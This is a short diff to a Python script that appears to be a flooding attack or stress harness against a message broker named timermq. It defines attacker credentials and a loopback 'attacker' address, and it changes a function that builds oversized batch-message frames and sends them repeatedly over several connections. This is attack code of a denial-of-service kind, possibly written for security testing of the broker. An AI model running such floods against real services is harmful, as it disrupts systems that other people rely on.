@@ -19,12 +19,14 @@ from multiprocessing.synchronize import Event
 import attrs
 import lz4.frame
 
+from timermq.broker.options import BrokerOptions
 from timermq.remoting import Command, LanguageCode, RequestCode
 from timermq.remoting.connection import FrameConnection, encode_frame
 from timermq.remoting.signature import ACCESS_KEY, SIGNATURE, SigningKey, signed_content
 
 ATTACKER = "127.0.0.2"
 TOPIC = "Evil"
+BATCH_COUNT = BrokerOptions().batch_count_max
 ACCOUNT, SECRET = "attacker", "attackers-secret"
 CPP = LanguageCode.CPP
 
@@ -223,7 +225,7 @@ def batches(target: Target, stop: Event) -> None:
     one = struct.pack(">iiiii", 23, 0, 0, 0, 1) + b"x" + struct.pack(">h", 0)
     ext = {"a": "P", "b": TOPIC, "c": "TBW102", "d": "4", "e": "0", "f": "0", "g": "0", "h": "0",
            "i": "", "j": "0", "k": "false", "m": "true"}  # fmt: skip
-    frame = target.frame(RequestCode.SEND_BATCH_MESSAGE, ext, one * 2_048)
+    frame = target.frame(RequestCode.SEND_BATCH_MESSAGE, ext, one * BATCH_COUNT)
     _blast([target.connect() for _ in range(4)], frame * 4, stop, reads=True)
 
 
